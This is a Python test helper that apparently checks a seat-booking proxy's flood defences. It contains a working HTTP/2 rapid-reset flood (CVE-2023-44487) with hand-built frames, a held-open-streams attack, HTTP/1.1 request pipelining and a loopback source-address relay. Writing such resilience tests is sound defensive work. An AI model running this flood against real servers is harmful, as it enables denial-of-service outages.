"""Somebody who asks for too much, and a way to come from another address of loopback."""

import contextlib
import re
import selectors
import socket
import ssl
import struct
import threading

from tests.deploy.programs import SECONDS_MAX

# --- HTTP/2, as much of it as a flood of calls cancelled at once needs (RFC 9113, 7541) -----------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_HEADERS = 4
FRAME_HEAD_BYTES = 9
CANCEL = struct.pack(">I", 8)
# How many calls one flood makes at most, so that it ends by itself.
CALLS_MAX = 5_000_000
CALLS_AT_ONCE = 100
# A proxy ends a connection after so many calls: the flood connects anew before.
CALLS_A_CONNECTION = 9_000


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(text):
    return bytes([len(text)]) + text.encode()


def call_head(path):
    """HPACK: `:method POST` and `:scheme https` by index, the rest without an index."""
    return (b"\x83\x87\x04" + literal(path) + b"\x01" + literal("seats.example") + b"\x0f\x10" +
            literal("application/grpc") + b"\x00" + literal("te") + literal("trailers"))


class RapidReset(threading.Thread):
    """Begins calls and cancels them at once (CVE-2023-44487) until `stop`. One in a hundred it does
    not cancel, and never sends its body: only a proxy that refuses the call answers it."""

    def __init__(self, address, tls):
        super().__init__(daemon=True)
        self.how = (address, tls)
        self.stopping = threading.Event()
        self.calls = 0
        self.refused = 0

    def run(self):
        while not self.stopping.is_set() and self.calls < CALLS_MAX:
            with contextlib.suppress(OSError):
                self._flood()

    def _flood(self):
        address, tls = self.how
        head = call_head("/seatlock.v1.SeatLockService/GetShowtime")
        with tls.wrap_socket(socket.create_connection(address, SECONDS_MAX),
                             server_hostname="seats.example") as link:
            link.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            buffer = b""
            for first in range(1, 2 * CALLS_A_CONNECTION, 2 * CALLS_AT_ONCE):
                if self.stopping.is_set():
                    return
                last = first + 2 * CALLS_AT_ONCE - 2
                link.sendall(b"".join(frame(HEADERS, END_HEADERS, stream, head) +
                                      frame(RST_STREAM, 0, stream, CANCEL)
                                      for stream in range(first, last, 2)) +
                             frame(HEADERS, END_HEADERS, last, head))
                self.calls += CALLS_AT_ONCE
                refused, buffer = count_answers(buffer + read_what_is_there(link))
                self.refused += refused

    def stop(self):
        self.stopping.set()
        self.join(SECONDS_MAX)


def read_what_is_there(link):
    data = b""
    link.setblocking(False)
    with contextlib.suppress(ssl.SSLWantReadError):
        while piece := link.recv(65536):
            data += piece
        raise ConnectionError("the proxy has had enough")
    link.settimeout(SECONDS_MAX)
    return data


def count_answers(buffer):
    """In the whole frames of it; and the rest."""
    answers = 0
    while len(buffer) >= FRAME_HEAD_BYTES:
        end = FRAME_HEAD_BYTES + int.from_bytes(buffer[:3], "big")
        if len(buffer) < end:
            break
        answers += buffer[3] == HEADERS
        buffer = buffer[end:]
    return answers, buffer


class OpenCalls:
    """A connection with so many calls whose bodies never come: only refusals are answers."""

    def __init__(self, address, tls, calls):
        self.link = tls.wrap_socket(socket.create_connection(address, SECONDS_MAX),
                                    server_hostname="seats.example")
        head = call_head("/seatlock.v1.SeatLockService/GetShowtime")
        self.link.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + b"".join(
            frame(HEADERS, END_HEADERS, stream, head) for stream in range(1, 2 * calls, 2)))
        self.buffer = b""
        self.answers = 0

    def refused(self):
        answers, self.buffer = count_answers(self.buffer + read_what_is_there(self.link))
        self.answers += answers
        return self.answers

    def close(self):
        self.link.close()


# --- HTTP/1.1 -------------------------------------------------------------------------------------


def send_requests(address, tls, source, count):
    """So many at once, on a connection of their own; the status of each that was answered."""
    request = b"GET / HTTP/1.1\r\nHost: seats.example\r\n"
    answers = b""
    with tls.wrap_socket(socket.create_connection(address, SECONDS_MAX, (source, 0)),
                         server_hostname="seats.example") as link:
        with contextlib.suppress(ConnectionError):
            link.sendall((request + b"\r\n") * (count - 1) + request + b"Connection: close\r\n\r\n")
            while piece := link.recv(65536):
                answers += piece
    return [int(status) for status in re.findall(rb"HTTP/1\.1 (\d{3}) ", answers)]


# --- another address ------------------------------------------------------------------------------


class Relay(threading.Thread):
    """Passes on bytes between whoever connects and `target`, which sees them come from `source`.
    For clients that cannot choose the address that they come from."""

    def __init__(self, target, source):
        super().__init__(daemon=True)
        self.target, self.source = target, source
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.links = []

    def run(self):
        with contextlib.suppress(OSError):
            while True:
                near, _ = self.listener.accept()
                far = socket.create_connection(self.target, 10, (self.source, 0))
                far.settimeout(None)
                self.links += [near, far]
                threading.Thread(target=pass_on, args=(near, far), daemon=True).start()

    def stop(self):
        self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()
        for link in self.links:
            link.close()


def pass_on(near, far):
    """Until one end closes."""
    with selectors.DefaultSelector() as selector, contextlib.suppress(OSError, ValueError):
        selector.register(near, selectors.EVENT_READ, far)
        selector.register(far, selectors.EVENT_READ, near)
        while True:
            for key, _ in selector.select():
                data = key.fileobj.recv(65536)
                if not data:
                    return
                key.data.sendall(data)
